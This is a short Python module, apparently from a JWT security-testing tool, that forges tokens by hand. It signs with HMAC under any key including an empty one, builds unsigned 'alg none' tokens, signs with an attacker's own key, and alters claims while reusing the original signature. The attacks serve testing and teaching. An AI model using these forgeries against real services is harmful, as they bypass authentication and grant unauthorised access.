"""The attacker's side: tokens made by hand, the way jwt_tool and the PortSwigger labs make them.

Nothing here is used by a server. HMAC signatures are computed with `hmac` directly, because
PyJWT rightly refuses the keys these attacks need (an empty key, a public key as a secret).
"""

from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

from authcli.encoding import b64url
from authcli.tokens.parse import split

HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def _segment(data: dict[str, Any]) -> str:
    return b64url(json.dumps(data, separators=(",", ":")).encode())


def signing_input(header: dict[str, Any], payload: dict[str, Any]) -> str:
    return f"{_segment(header)}.{_segment(payload)}"


def sign_hmac(header: dict[str, Any], payload: dict[str, Any], secret: bytes) -> str:
    """header.payload.signature with HMAC over any secret at all, even an empty one."""
    head = signing_input(header, payload)
    digest = hmac.new(secret, head.encode("ascii"), HASHES[header["alg"]]).digest()
    return f"{head}.{b64url(digest)}"


def unsigned(header: dict[str, Any], payload: dict[str, Any]) -> str:
    """alg none: the signature part is empty."""
    return f"{signing_input(header, payload)}."


def sign_with(private: Any, header: dict[str, Any], payload: dict[str, Any]) -> str:
    """A real signature with the attacker's own private key (PyJWT)."""
    from authcli.tokens.keys import pyjwt

    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
    return pyjwt().encode(payload, private, algorithm=header["alg"], headers=extra or None)


def tampered(token: str, **claims: Any) -> str:
    """The same header and signature, with claims changed in the payload."""
    parts = split(token)
    payload = {**parts.payload, **claims}
    return f"{parts.header_b64}.{_segment(payload)}.{token.rsplit('.', 1)[1]}"
